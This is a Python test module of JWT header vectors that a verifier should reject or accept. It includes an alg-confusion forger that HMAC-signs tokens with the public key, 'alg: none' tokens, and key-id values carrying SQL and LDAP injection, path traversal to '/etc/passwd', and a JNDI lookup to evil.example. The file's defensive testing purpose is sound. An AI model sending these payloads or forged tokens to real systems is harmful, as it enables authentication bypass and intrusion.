"""Wrong in the header: its JSON, its members, the algorithm, the kid and the kind."""

from __future__ import annotations

import hmac
from hashlib import sha256
from typing import Final

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from .table import Row
from .tokens import GONE, TYP, b64, dump, envelope, header_of, key, payload_of, signed

KEY: Final = key("ES256")
KID: Final = KEY.kid
TEXT: Final = header_of(KEY).decode()
PAYLOAD: Final = payload_of()


def head(text: str | bytes) -> str:
    return signed(text.encode() if isinstance(text, str) else text, PAYLOAD, KEY)


def with_members(more: str) -> str:
    return head(f"{TEXT[:-1]},{more}}}")


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


JSON: Final = {
    "r8-utf16-with-mark": TEXT.encode("utf-16"),
    "r8-utf16-big-endian": TEXT.encode("utf-16-be"),
    "r8-utf32": TEXT.encode("utf-32-le"),
    "r8-latin-1": TEXT.replace(TYP, "é").encode("latin-1"),
    "r8-truncated-utf8": TEXT.encode() + b"\xc3",
    "r8-overlong-utf8": TEXT.encode().replace(b"alg", b"\xc1\xa1lg"),
    "r8-surrogate-in-utf8": TEXT.encode().replace(b"jwt", b"\xed\xa0\x80"),
    "r9-array": f"[{TEXT}]",
    "r9-string": '"ES256"',
    "r9-number": "42",
    "r9-null": "null",
    "r9-true": "true",
    "r9-empty-object": "{}",
    "r9-only-white-space": "   ",
    "r9-truncated": TEXT[:-1],
    "r10-trailing-brace": TEXT + "}",
    "r10-trailing-letter": TEXT + "x",
    "r10-two-objects": TEXT + TEXT,
    "r10-trailing-nul": TEXT + "\0",
    "r10-leading-comma": "," + TEXT,
    "r11-single-quotes": TEXT.replace('"', "'"),
    "r11-comment": TEXT[:-1] + "/* */}",
    "r11-line-comment": TEXT + "//",
    "r11-trailing-comma": TEXT[:-1] + ",}",
    "r11-names-without-quotes": TEXT.replace('"alg"', "alg"),
    "r11-nan": TEXT[:-1] + ',"typ2":NaN}',
    "r11-raw-newline-in-a-string": TEXT.replace(TYP, "vnd\n"),
    "r11-unknown-escape": TEXT.replace("jwt", "\\x6awt"),
    "r11-form-feed-as-white-space": "\f" + TEXT,
    "r11-no-break-space-as-white-space": "\u00a0" + TEXT,
    "r12-duplicate-alg": TEXT[:-1] + ',"alg":"ES256"}',
    "r12-duplicate-alg-other-value": '{"alg":"none",' + TEXT[1:],
    "r12-duplicate-kid": TEXT[:-1] + f',"kid":"{KID}"}}',
    "r12-duplicate-typ": TEXT[:-1] + f',"typ":"{TYP}"}}',
    "r12-duplicate-of-an-unknown-member": TEXT[:-1] + ',"a":1,"a":1}',
    "r13-duplicate-through-an-escape": TEXT[:-1] + ',"\\u0061lg":"ES256"}',
    "r14-byte-order-mark": "\ufeff" + TEXT,
    "r15-nested-too-deep": TEXT[:-1] + f',"a":{nested(32)}}}',
    "r15-nested-beyond-the-parser": TEXT[:-1] + f',"a":{nested(350)}}}',
    "r15-number-of-infinite-size": TEXT[:-1] + ',"a":1e400}',
    "r90-lone-surrogate-in-typ": TEXT.replace(TYP, "\\ud800"),
}
UNKNOWN_MEMBERS: Final = {
    "r21-crit-of-an-unknown-name": '"crit":["exp"]',
    "r21-crit-with-its-member": '"crit":["http://a.example/x"],"http://a.example/x":true',
    "r22-crit-empty": '"crit":[]',
    "r22-crit-null": '"crit":null',
    "r22-crit-of-a-standard-name": '"crit":["alg"]',
    "r22-crit-twice-the-same": '"crit":["b64","b64"],"b64":true',
    "r22-crit-of-an-absent-member": '"crit":["b64"]',
    "r22-crit-as-a-string": '"crit":"b64"',
    "r23-b64-false": '"b64":false,"crit":["b64"]',
    "r23-b64-true": '"b64":true,"crit":["b64"]',
    "r24-b64-without-crit": '"b64":false',
    "r25-jku": '"jku":"https://billing.example/keys"',
    "r25-jwk": '"jwk":{"kty":"EC"}',
    "r25-x5u": '"x5u":"https://billing.example/cert"',
    "r25-x5c": '"x5c":["MIIB"]',
    "r25-x5t": '"x5t":"AAAA"',
    "r25-x5t-s256": '"x5t#S256":"AAAA"',
    "r26-zip": '"zip":"DEF"',
    "r26-enc": '"enc":"A256GCM"',
    "r26-epk": '"epk":{}',
    "r26-p2c": '"p2c":1000',
    "r26-cty": '"cty":"JWT"',
    "header-iss": '"iss":"https://billing.example"',
    "header-aud": '"aud":"https://shop.example/inbox"',
    "header-nonce": '"nonce":"x"',
    "header-empty-name": '"":1',
    "header-kid-in-capitals": '"KID":"x"',
    "header-alg-in-capitals": '"Alg":"ES256"',
    "header-name-with-nul": '"alg\\u0000":"ES256"',
}
ALG_FORMS: Final[dict[str, object]] = {
    "r16-alg-missing": GONE,
    "r16-alg-null": None,
    "r16-alg-number": 7,
    "r16-alg-true": True,
    "r16-alg-array": ["ES256"],
    "r16-alg-object": {"name": "ES256"},
}
ALGS: Final = {
    "r16-alg-empty": "",
    "r17-alg-lower-case": "es256",
    "r17-alg-trailing-space": "ES256 ",
    "r17-alg-trailing-nul": "ES256\0",
    "r17-alg-es256k": "ES256K",
    "r17-alg-unregistered": "SIGNEDMSG",
    "r17-alg-with-fullwidth-letter": "\uff25S256",
    "r17-alg-ed448": "Ed448",
    "r17-alg-ps256-in-mixed-case": "Ps256",
    "r17-alg-rs1": "RS1",
    "r17-alg-rsa-oaep": "RSA-OAEP",
    "r18-alg-none": "none",
    "r18-alg-none-capital": "None",
    "r18-alg-none-shouted": "NONE",
    "r18-alg-none-mixed": "nOnE",
    "r18-alg-none-misspelt": "noNE",
    "r18-alg-none-with-space": "none ",
    "r19-alg-hs256": "HS256",
    "r19-alg-hs384": "HS384",
    "r19-alg-hs512": "HS512",
}
KID_FORMS: Final[dict[str, object]] = {
    "r27-kid-missing": GONE,
    "r27-kid-null": None,
    "r27-kid-number": 1,
    "r27-kid-array": [KID],
    "r27-kid-object": {"kid": KID},
    "r27-kid-empty": "",
    "r27-kid-sql": "x' OR '1'='1",
    "r27-kid-sql-comment": "x;DROP TABLE keys",
    "r27-kid-ldap": "*)(uid=*",
    "r27-kid-windows-path": "..\\..\\keys",
    "r27-kid-with-space": f"{KID} ",
    "r27-kid-with-newline": f"{KID}\n",
    "r27-kid-with-nul": f"{KID}\0",
    "r27-kid-percent-escape": "%2e%2e%2fkeys",
    "r27-kid-template": "${jndi:ldap://evil.example}",
    "r27-kid-outside-ascii": "schlüssel",
    "r27-kid-of-129-characters": "k" * 129,
}
KIDS: Final = {
    "r27-kid-traversal": "../../../../dev/null",
    "r27-kid-absolute-path": "/etc/passwd",
    "r27-kid-url": "https://evil.example/keys",
    "r27-kid-of-128-characters": "k" * 128,
    "r27-kid-in-another-case": KID.swapcase(),
    "r27-kid-shortened": KID[:-1],
    "r27-kid-lengthened": KID + "A",
}
TYP_FORMS: Final[dict[str, object]] = {"r29-typ-null": None, "r29-typ-number": 1, "r29-typ-array": [TYP]}
TYPS: Final = {
    "r28-typ-of-another-tree": f"text/{TYP}",
    "r28-typ-prefixed-twice": f"application/application/{TYP}",
    "r28-typ-with-a-parameter": f"{TYP};charset=utf-8",
    "r28-typ-with-trailing-space": f"{TYP} ",
    "r28-typ-with-leading-slash": f"/{TYP}",
    "r28-typ-with-long-s": TYP.replace("s", "\u017f", 1),
    "r28-typ-with-kelvin-sign": TYP.replace("j", "\u212a"),
    "r29-typ-missing": GONE,
    "r29-typ-empty": "",
    "r29-typ-jwt": "JWT",
    "r29-typ-jose": "JOSE",
    "r29-typ-access-token": "at+jwt",
    "r29-typ-security-event": "secevent+jwt",
    "r29-typ-proof-of-possession": "dpop+jwt",
    "r29-typ-shortened": TYP[:-1],
    "r30-kind-bound-request": "vnd.signedmsg.req+jwt",
    "r30-kind-bound-response": "vnd.signedmsg.res+jwt",
    "r30-kind-receipt": "vnd.signedmsg.receipt+jwt",
    "r30-kind-encrypted": "vnd.signedmsg.enc+jwt",
}


def symmetric() -> str:
    """Sign with HMAC under the public key's PEM, the oldest confusion of algorithms."""
    secret = KEY.private.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    signing_input = f"{b64(dump({'alg': 'HS256', 'kid': KID, 'typ': TYP}))}.{b64(PAYLOAD)}"
    return f"{signing_input}.{b64(hmac.digest(secret, signing_input.encode(), sha256))}"


def unsecured(signature: str) -> str:
    return f"{b64(dump({'alg': 'none', 'kid': KID, 'typ': TYP}))}.{b64(PAYLOAD)}.{signature}"


ROWS: Final = (
    *(Row(f"{id}-header", "malformed", head(text)) for id, text in JSON.items()),
    *(Row(id, "unsupported", with_members(more)) for id, more in UNKNOWN_MEMBERS.items()),
    *(Row(id, "malformed", envelope(header={"alg": alg})) for id, alg in ALG_FORMS.items()),
    *(Row(id, "unsupported", envelope(header={"alg": alg})) for id, alg in ALGS.items()),
    Row("r18-alg-none-with-an-empty-signature", "malformed", unsecured("")),
    Row("r18-alg-none-with-some-signature", "unsupported", unsecured("AA")),
    Row("r19-hmac-under-the-public-key", "unsupported", symmetric()),
    *(Row(id, "malformed", envelope(header={"kid": kid})) for id, kid in KID_FORMS.items()),
    *(Row(id, "unknown_key", envelope(header={"kid": kid})) for id, kid in KIDS.items()),
    *(Row(id, "malformed", envelope(header={"typ": typ})) for id, typ in TYP_FORMS.items()),
    *(Row(id, "unsupported", envelope(header={"typ": typ})) for id, typ in TYPS.items()),
)
ACCEPTED: Final = (
    Row("r13-escaped-name-is-the-same-name", "", head(TEXT.replace('"alg"', '"\\u0061lg"'))),
    Row("r28-typ-with-application-in-another-case", "", envelope(header={"typ": "application/VND.signedmsg+JWT"})),
    Row("r28-typ-in-capitals", "", envelope(header={"typ": TYP.upper()})),
    Row(
        "r44-header-with-white-space-and-another-order",
        "",
        head(f' {{"typ":"{TYP}",\r\n "kid":"{KID}", "alg":"ES256"}} '),
    ),
)
